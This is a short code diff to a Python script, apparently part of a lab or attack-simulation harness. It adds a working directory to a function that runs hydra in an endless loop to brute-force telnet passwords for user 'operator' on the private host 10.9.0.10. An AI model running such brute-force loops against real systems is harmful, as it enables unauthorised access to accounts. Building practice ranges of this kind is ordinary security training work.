@@ -104,7 +104,7 @@ def people(site, exim):
 def attack(words):
     """hydra, again and again, until it is ended."""
     return start(['sh', '-c', 'while :; do "$0" -q -I -l operator -P "$1" -t 16 telnet://10.9.0.10; done', 'hydra', words], 'attacker',
-                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+                 cwd=work, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 
 
 def deed(site, name, person, **fields):
